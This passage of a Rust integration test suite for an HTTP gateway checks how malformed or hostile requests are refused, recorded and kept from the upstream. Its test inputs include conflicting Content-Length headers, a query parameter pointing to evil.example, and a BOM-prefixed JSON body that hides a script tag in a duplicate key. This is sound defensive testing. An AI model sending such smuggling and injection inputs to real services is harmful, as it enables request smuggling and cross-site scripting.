    .send("CONNECT", "upstream.internal:443", &[], "")
    .await
    .expect("h2 CONNECT");
    assert_eq!(h2.version, http::Version::HTTP_2);
    assert_eq!(h2.status, 405, "{h2:?}");
    assert_eq!(h2.json()["reason"], "protocol.connect_refused");
    assert!(h2.headers.contains_key("strict-transport-security"));
    assert!(!h2.headers.contains_key("server"));
    answers.push(h2.headers["x-request-id"].to_str().expect("id").to_owned());
    assert!(
        s.upstream.requests().is_empty(),
        "a CONNECT reached the upstream"
    );
    let records = s.records_with_reason("protocol.connect_refused", answers.len());
    let mut recorded: Vec<&str> = records
        .iter()
        .map(|r| {
            assert_eq!(
                (
                    r["method"].as_str(),
                    r["status"].as_u64(),
                    r["decision"].as_str()
                ),
                (Some("CONNECT"), Some(405), Some("refuse")),
                "{r}"
            );
            r["request_id"].as_str().unwrap_or_default()
        })
        .collect();
    recorded.sort_unstable();
    answers.sort();
    assert_eq!(recorded, answers);
}

/// HTTP/2 requests the HTTP/2 layers refuse before any gateway step — `h2` resets a stream
/// whose header block is malformed (RFC 9113 section 8.1.1) or whose body overruns its length,
/// pingora answers a bare `400` to an `:authority` that disagrees with `Host`, `h2` a bare `431`
/// to a header list over its bound — are answered in the gateway's words: the status, the
/// request id of a record written before the answer, HSTS, `nosniff` (R-LOG-1, R-WAF-3,
/// R-TLS-3). The connection stays sound: requests after them on it are answered as usual (the
/// client's HPACK table is in step with the server's).
#[tokio::test(flavor = "multi_thread")]
async fn http2_streams_the_http2_layers_refuse_are_answered_recorded_and_hardened() {
    let s = setup().await;
    let h2 = h2_client(&s).await;
    let url = "https://localhost/records/x";
    let request = |method: &str, headers: &[(&str, &str)]| {
        let mut r = http::Request::builder().method(method).uri(url);
        for (name, value) in headers {
            r = r.header(*name, *value);
        }
        r.body(()).expect("request")
    };
    let send = |request: http::Request<()>, body: Option<&'static [u8]>| {
        let h2 = h2.clone();
        async move {
            let mut h2 = h2.ready().await.expect("ready");
            let (response, mut stream) = h2.send_request(request, body.is_none()).expect("send");
            if let Some(body) = body {
                stream
                    .send_data(bytes::Bytes::from_static(body), true)
                    .expect("body");
            }
            response.await.expect("an answer, not a reset")
        }
    };
    let big = "a".repeat(70 * 1024);
    // (request, its body, the status and reason expected)
    let refused = [
        (
            request("POST", &[("content-length", "5")]),
            None,
            400,
            "protocol.malformed_stream",
        ),
        (
            request("POST", &[("content-length", "5"), ("content-length", "6")]),
            Some(&b"hello"[..]),
            400,
            "protocol.malformed_stream",
        ),
        (
            request("POST", &[("content-length", "five")]),
            Some(&b"hello"[..]),
            400,
            "protocol.malformed_stream",
        ),
        // A body longer than its length, reset when it comes (the gateway, reading it, records
        // that request as lost: below).
        (
            request(
                "POST",
                &[("content-length", "2"), ("content-type", "text/plain")],
            ),
            Some(&b"hello"[..]),
            400,
            "protocol.malformed_stream",
        ),
        (
            request("GET", &[("host", "other.example")]),
            None,
            400,
            "protocol.invalid_host",
        ),
        (
            request("GET", &[("x-big", big.as_str())]),
            None,
            431,
            "protocol.headers_too_large",
        ),
    ];
    let ok = send(request("GET", &[]), None).await;
    assert_eq!(ok.status(), 200);
    let mut answered = Vec::new();
    for (refused, body, status, reason) in refused {
        let shown = format!("{:?}", refused.headers().keys().collect::<Vec<_>>());
        let answer = send(refused, body).await;
        assert_eq!(answer.status(), status, "{shown}");
        let headers = answer.headers();
        assert_eq!(
            headers["strict-transport-security"],
            "max-age=31536000; includeSubDomains"
        );
        assert_eq!(headers["x-content-type-options"], "nosniff");
        assert_eq!(headers["cache-control"], "no-store");
        assert!(httpdate::parse_http_date(headers["date"].to_str().expect("date")).is_ok());
        assert!(!headers.contains_key("server"));
        let id = headers["x-request-id"].to_str().expect("id").to_owned();
        // The record was written before the answer went out.
        let records = phr_gateway::audit::segment::read_records(&s.dir.path().join("audit/access"))
            .expect("records");
        let record = records
            .iter()
            .find(|r| r["request_id"] == id.as_str())
            .unwrap_or_else(|| panic!("no record for {id} ({shown})"));
        assert_eq!(
            (
                record["reason"].as_str(),
                record["status"].as_u64(),
                record["decision"].as_str(),
                record["tls"].as_str()
            ),
            (
                Some(reason),
                Some(u64::from(status)),
                Some("refuse"),
                Some("TLSv1.3")
            ),
            "{record}"
        );
        answered.push(id);
        // Each followed by a request that must be answered as usual on the same connection.
        let ok = send(request("GET", &[]), None).await;
        assert_eq!(ok.status(), 200, "after {shown}");
        assert!(ok.headers()["x-request-id"] != answered.last().expect("id").as_str());
    }
    assert_eq!(
        s.upstream.requests().len(),
        1 + answered.len(),
        "only the good GETs pass"
    );
    // The overrunning body had reached the gateway's body check, which records that request
    // as lost (its answer cannot be sent on a reset stream), not as a second refusal.
    let lost = s.records_with_reason("client.connection_lost", 1);
    assert_eq!(lost.len(), 1, "{lost:?}");
    assert_eq!(
        (lost[0]["method"].as_str(), lost[0]["decision"].as_str()),
        (Some("POST"), Some("lost"))
    );
    assert!(s
        .records_with_reason("protocol.malformed_body", 0)
        .is_empty());
}

/// An HTTP/2 connection to the gateway (the `h2` crate's client, over TLS 1.3), driven in the
/// background.
async fn h2_client(s: &Harness) -> h2::client::SendRequest<bytes::Bytes> {
    let tls = connect(
        s.gateway.port,
        client_config(&s.pki.ca_der, &[&rustls::version::TLS13], &[b"h2"]),
    )
    .await
    .expect("TLS");
    let (h2, connection) = h2::client::handshake(tls).await.expect("h2 handshake");
    tokio::spawn(connection);
    h2
}

/// HTTP/2's own header-list bound follows the policy's head limits (R-WAF-3): a head the
/// policy allows is served over HTTP/2 as over HTTP/1, one over `max_header_bytes` gets the
/// gateway's own 431 with its problem body, and a reload may lower the limits but not raise
/// them above the bound the HTTP/2 layer started with.
#[tokio::test(flavor = "multi_thread")]
async fn http2_heads_are_held_to_the_policy_limits_not_the_libraries_r_waf_3() {
    let limits = |bytes: usize| format!("\n[limits]\nmax_header_bytes = {bytes}\n{EXTRA}");
    let s = Harness::start(&limits(96 * 1024)).await;
    let h2 = h2_client(&s).await;
    // (status, the answer's body) of a GET with one header of `size` bytes.
    let get = |size: usize| {
        let h2 = h2.clone();
        async move {
            let request = http::Request::get("https://localhost/records/big")
                .header("x-big", "a".repeat(size))
                .body(())
                .expect("request");
            let mut h2 = h2.ready().await.expect("ready");
            let (response, _) = h2.send_request(request, true).expect("send");
            let response = response.await.expect("an answer, not a reset");
            let status = response.status().as_u16();
            let mut body = response.into_body();
            let mut bytes = Vec::new();
            while let Some(chunk) = body.data().await {
                bytes.extend_from_slice(&chunk.expect("body"));
            }
            (status, String::from_utf8(bytes).expect("utf-8"))
        }
    };
    // 80 KiB: over pingora's default HTTP/2 bound (64 KiB), within the policy's 96 KiB.
    assert_eq!(get(80 * 1024).await.0, 200);
    assert_eq!(s.upstream.requests().len(), 1);
    let over_policy = get(100 * 1024).await;
    assert_eq!(over_policy.0, 431);
    // The gateway's own answer, with its problem body: not the HTTP/2 layer's bare 431.
    let problem: serde_json::Value = serde_json::from_str(&over_policy.1).expect("problem body");
    assert_eq!(problem["reason"], "protocol.headers_too_large");
    assert_eq!(s.upstream.requests().len(), 1);

    // Raising the limits above the HTTP/2 bound set at start takes a restart.
    let policy = |bytes: usize| policy(&s.pki, s.gateway.port, s.upstream.port, "", &limits(bytes));
    std::fs::write(&s.gateway.policy_path, policy(200 * 1024)).expect("write");
    s.gateway.reload();
    assert!(
        s.gateway.log().contains("HTTP/2 header list"),
        "{}",
        s.gateway.log()
    );
    assert_eq!(get(80 * 1024).await.0, 200, "the running policy is kept");
    // Lowering them is a reload like any other.
    std::fs::write(&s.gateway.policy_path, policy(16 * 1024)).expect("write");
    s.gateway.reload();
    assert!(
        s.gateway.log().contains("policy reloaded"),
        "{}",
        s.gateway.log()
    );
    let over_lowered = get(20 * 1024).await;
    assert_eq!(over_lowered.0, 431);
    assert!(over_lowered.1.contains("protocol.headers_too_large"));
    assert_eq!(s.upstream.requests().len(), 2);
}

/// An HTTP/1.1 connection that has sent a `POST` to `path` promising 100 bytes of body and
/// only 10 of them.
async fn ten_bytes_of_a_hundred(s: &Harness, path: &str) -> TlsStream {
    use tokio::io::AsyncWriteExt;
    let mut tls = connect(
        s.gateway.port,
        client_config(&s.pki.ca_der, &[&rustls::version::TLS13], &[b"http/1.1"]),
    )
    .await
    .expect("TLS");
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\n\
         Content-Length: 100\r\n\r\nten bytes."
    );
    tls.write_all(head.as_bytes()).await.expect("write");
    tls.flush().await.expect("flush");
    tls
}

/// A client that leaves in the middle of its body is recorded as lost, with its route: not as
/// a malformed body, whose answer nobody would read (R-LOG-1).
#[tokio::test(flavor = "multi_thread")]
async fn a_client_that_leaves_mid_body_is_recorded_as_lost_r_log_1() {
    let s = setup().await;
    let tls = ten_bytes_of_a_hundred(&s, "/records/x").await;
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    drop(tls);
    let lost = s.records_with_reason("client.connection_lost", 1);
    assert_eq!(lost.len(), 1, "{lost:?}");
    assert_eq!(
        (
            lost[0]["method"].as_str(),
            lost[0]["route"].as_str(),
            lost[0]["decision"].as_str(),
            lost[0]["status"].as_u64()
        ),
        (Some("POST"), Some("records"), Some("lost"), Some(0))
    );
    assert!(s
        .records_with_reason("protocol.malformed_body", 0)
        .is_empty());
    assert!(s.upstream.requests().is_empty());
}

/// A body that stalls past `limits.body_timeout_secs` on a route that reads it whole is
/// answered `408 protocol.request_timeout`, as the limit says, and recorded; nothing is
/// forwarded (R-NET-3).
#[tokio::test(flavor = "multi_thread")]
async fn a_stalled_body_is_a_timeout_not_a_malformed_body_r_net_3() {
    use tokio::io::AsyncReadExt;
    let s = Harness::start(&format!("\n[limits]\nbody_timeout_secs = 1\n{EXTRA}")).await;
    let mut tls = ten_bytes_of_a_hundred(&s, "/records/slow").await;
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(
        std::time::Duration::from_secs(10),
        tls.read_to_end(&mut answer),
    )
    .await;
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408 "), "{answer}");
    assert!(answer.contains("protocol.request_timeout"), "{answer}");
    let timed_out = s.records_with_reason("protocol.request_timeout", 1);
    assert_eq!(
        timed_out
            .first()
            .map(|r| (r["route"].as_str(), r["status"].as_u64())),
        Some((Some("records"), Some(408))),
        "{timed_out:?}"
    );
    assert!(s
        .upstream
        .requests()
        .iter()
        .all(|r| r.path != "/records/slow"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_http2_request_without_host_is_judged_against_its_authority() {
    let s = Harness::start(EXTRA).await;
    let h2 = client_config(&s.pki.ca_der, &[&rustls::version::TLS13], &[b"h2"]);
    let own = get(
        s.gateway.port,
        h2.clone(),
        "https://phr.example.jp/records/x?next=https://phr.example.jp/",
        &[],
    )
    .await
    .expect("h2 request");
    assert_eq!(own.version, http::Version::HTTP_2);
    assert_eq!(own.status, 200, "{own:?}");
    let other = get(
        s.gateway.port,
        h2,
        "https://phr.example.jp/records/x?next=https://evil.example/",
        &[],
    )
    .await
    .expect("h2 request");
    assert_eq!(other.status, 403, "{other:?}");
    assert_eq!(rules(&s.record(&other)), ["rfi-160"]);
    assert_eq!(s.upstream.requests().len(), 1);
}

/// A JSON body behind a byte order mark would be text to the gateway's parser and JSON to a
/// backend that skips the mark: refused, recorded, never forwarded (R-WAF-3).
#[tokio::test(flavor = "multi_thread")]
async fn a_json_body_behind_a_byte_order_mark_is_refused_r_waf_3() {
    let s = setup().await;
    let mut body = b"\xEF\xBB\xBF".to_vec();
    body.extend_from_slice(br#"{"note": "ok", "note": "<script>x()</script>"}"#);
    let reply = s
        .client()
        .await
        .send_bytes(
            "POST",
            "/records/bom",
            &[("content-type", "application/json")],
            body,
        )
        .await
        .expect("request");
    assert_eq!(reply.status, 400, "{reply:?}");
    assert_eq!(reply.json()["reason"], "protocol.malformed_body");
    assert_eq!(s.record(&reply)["reason"], "protocol.malformed_body");
    assert!(s.upstream.requests().is_empty());
}
